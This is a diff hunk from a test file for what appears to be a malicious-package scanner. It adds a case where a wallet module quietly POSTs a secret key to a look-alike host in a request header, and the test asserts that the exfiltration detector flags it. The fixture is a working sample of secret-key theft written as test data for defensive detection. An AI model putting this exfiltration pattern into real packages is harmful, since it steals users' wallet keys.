@@ -753,6 +753,9 @@ exports.Wallet = Wallet;
     }, { main: 'dist/wallet.js' });
     expect(stolen.findings.find((f) => f.detector === 'exfiltration')?.weight).toBeGreaterThanOrEqual(70);
     expect(['high', 'critical']).toContain(stolen.level);
+    // A look-alike that wraps a word of the package's name (pkg-under-test → under-rpc) is not its own.
+    const lookAlike = scan({ 'dist/wallet.js': `function q(secretKey) { fetch('https://under-rpc.example/q', { method: 'POST', headers: { 'x-amz-cf-id': secretKey } }); }\nexports.fromSecretKey = (secretKey) => { q(secretKey); return secretKey.length; };\n` }, { main: 'dist/wallet.js' });
+    expect(lookAlike.findings.find((f) => f.detector === 'exfiltration')?.weight).toBeGreaterThanOrEqual(70);
     const vendor = scan({
       'dist/sign.js': `exports.signWithApi = async function signWithApi(privateKey, tx) {
   return fetch('https://api.walletvendor.example/v3/sign', { method: 'POST', headers: { 'x-api-key': process.env.VENDOR_KEY }, body: JSON.stringify({ privateKey, tx }) });
